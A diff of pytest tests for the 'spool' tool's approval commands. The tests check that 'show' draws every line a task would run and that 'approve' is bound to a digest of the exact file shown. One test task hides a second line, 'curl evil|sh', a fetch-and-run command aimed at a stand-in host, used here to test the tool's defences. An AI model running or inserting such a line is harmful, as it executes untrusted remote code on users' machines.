@@ -1,15 +1,20 @@
 """`hold`, `release`, `asks`, `approve`, `reject` and `ask`: what they print, refuse and leave in control/."""
 
+import hashlib
 import json
 from collections.abc import Callable
 from pathlib import Path
+from random import Random
 from typing import Any
 
 import pytest
 
+from spoold.faces.cli import output
+from spoold.pictures import work
 from tests.cli.command import make
 from tests.cli.commands import Done, spool
 from tests.cli.test_verbs import end, put, requests
+from tests.support.said import ERRAND, FIELDS, errand_with, evil_task, task_with
 
 Run = Callable[..., Done]
 LANE = "type=command,run=command"
@@ -103,6 +108,92 @@ def test_a_task_that_asks_nothing_cannot_be_answered(root: Path, run: Run) -> No
     assert requests(root) == []
 
 
+def test_what_is_approved_is_what_was_drawn(root: Path, run: Run) -> None:
+    """G23, G24: `spool show` drew nothing of what an approval would start, and `approve` was of the id alone."""
+    task(root, "evil", command="make test  # quick check\ncurl evil|sh", approval={"ask": "Deploy?"})
+    shown = run("show", "evil").out
+    assert "command (2 lines)\n  1| make test  # quick check\n  2| curl evil|sh\n" in shown
+    (path,) = root.glob("waiting/*/*.evil.*")
+    digest = hashlib.sha256(path.read_bytes()).hexdigest()
+    assert shown.splitlines()[-1] == f"`spool approve evil --seen {digest}` approves exactly this"
+    path.write_text(path.read_text().replace("quick", "quack"))
+    done = run("approve", "evil", "--seen", digest)
+    assert (done.code, requests(root)) == (2, [])
+    assert "what was shown of evil is not what would be approved: its file is another one now." in done.err
+    now = hashlib.sha256(path.read_bytes()).hexdigest()
+    assert run("approve", "evil", "--seen", now).code == 0
+    assert contents(root, "approve")[0]["seen"] == now
+    task(root, "runs", "claimed/w-aaaaa", approval={"ask": "Deploy?"})
+    put(root, "control/ask.runs.q1.json", {"by": "runs", "at": "x", "ask": "Where?", "attempt": 1})
+    assert "it runs already." in run("approve", "runs", "--seen", digest).err
+    assert "--seen" not in run("show", "runs").out
+    assert run("approve", "runs").code == 0
+    assert "seen" not in contents(root, "approve")[1]
+
+
+def test_an_approval_of_a_drop_that_is_not_admitted_is_of_any_file(root: Path, run: Run) -> None:
+    put(root, "pending/early.json", {"id": "early", "command": ["x"], "approval": {"ask": "Deploy?"}})
+    assert "--seen" not in run("show", "early").out
+    assert run("approve", "early").code == 0
+    assert "seen" not in contents(root, "approve")[0]
+
+
+def test_each_field_and_each_line_is_drawn_on_the_terminal(root: Path, run: Run) -> None:
+    """G24."""
+    for number, (content, said) in enumerate(
+        [(task_with(name), said) for name, (_, said) in FIELDS.items()]
+        + [(errand_with(name), said) for name, (_, said) in ERRAND.items()]
+    ):
+        put(root, f"waiting/{LANE}/5000.{ORDER}.t{number}.a1f0c0d.json", {**content, "id": f"t{number}"})
+        assert said in run("show", f"t{number}").out, content
+    for seed in range(12):
+        content, _ = evil_task(Random(seed))
+        put(root, f"waiting/{LANE}/5000.{ORDER}.t.a1f0c0d.json", content)
+        lines = run("show", "t").lines
+        drawn = work.drawn(work.parts_of(content), 2000)
+        assert lines[-1 - len(drawn) : -1] == drawn
+
+
+def test_a_file_that_is_no_task_asks_nothing_and_runs_nothing(root: Path, run: Run) -> None:
+    task(root, "broken", approval={"ask": "Deploy?"})
+    (path,) = root.glob("waiting/*/*.broken.*")
+    path.write_text("{")
+    assert "task broken asks nothing" in run("approve", "broken").err
+    done = run("show", "broken")
+    assert (done.code, done.lines[-1].split()[0]) == (0, "path")
+
+
+def test_what_asks_nobody_is_shown_as_far_as_there_is_room(root: Path, run: Run) -> None:
+    task(root, "many", command="x\n" * 500)
+    assert run("show", "many").lines[-1] == "… and 442 more lines; --json has all"
+
+
+def test_at_a_terminal_an_approval_is_asked_about_what_is_drawn(
+    root: Path, run: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """G23, G24."""
+    deploy(root)
+    said: list[str] = []
+
+    def confirmed(question: str) -> bool:
+        said.append(question)
+        return len(said) > 1
+
+    monkeypatch.setattr(output, "may_ask", lambda: True)
+    monkeypatch.setattr(output, "confirmed", confirmed)
+    done = run("approve", "deploy")
+    assert (done.code, requests(root)) == (1, [])
+    assert "command: work" in done.out
+    assert "nothing was answered" in done.err
+    assert run("approve", "deploy").code == 0
+    assert said == ["approve deploy?"] * 2
+    assert len(contents(root, "approve")[0]["seen"]) == 64
+    task(root, "runs", "claimed/w-aaaaa")
+    put(root, "control/ask.runs.q1.json", {"by": "runs", "at": "x", "ask": "Where?", "attempt": 1})
+    assert run("approve", "runs").code == 0
+    assert len(said) == 2, "it runs already"
+
+
 def test_asks_lists_what_nobody_has_answered(root: Path, run: Run) -> None:
     assert "nobody is asked anything" in run("asks").out
     deploy(root)
@@ -120,6 +211,7 @@ def test_asks_lists_what_nobody_has_answered(root: Path, run: Run) -> None:
     ]
     assert found[0]["until"] == "2026-02-02T10:00:00.000Z"
     assert "Deploy?" in run("asks").out
+    assert "`spool show ID` draws all that a task would run after its approval" in run("asks").err
     done = run("approve", "runs")
     assert "task runs asks 2 questions: name one with --question: q1 (Where?), q2 (Who?)." in done.err
     assert "no question q9 that is open" in run("approve", "runs", "--question", "q9").err
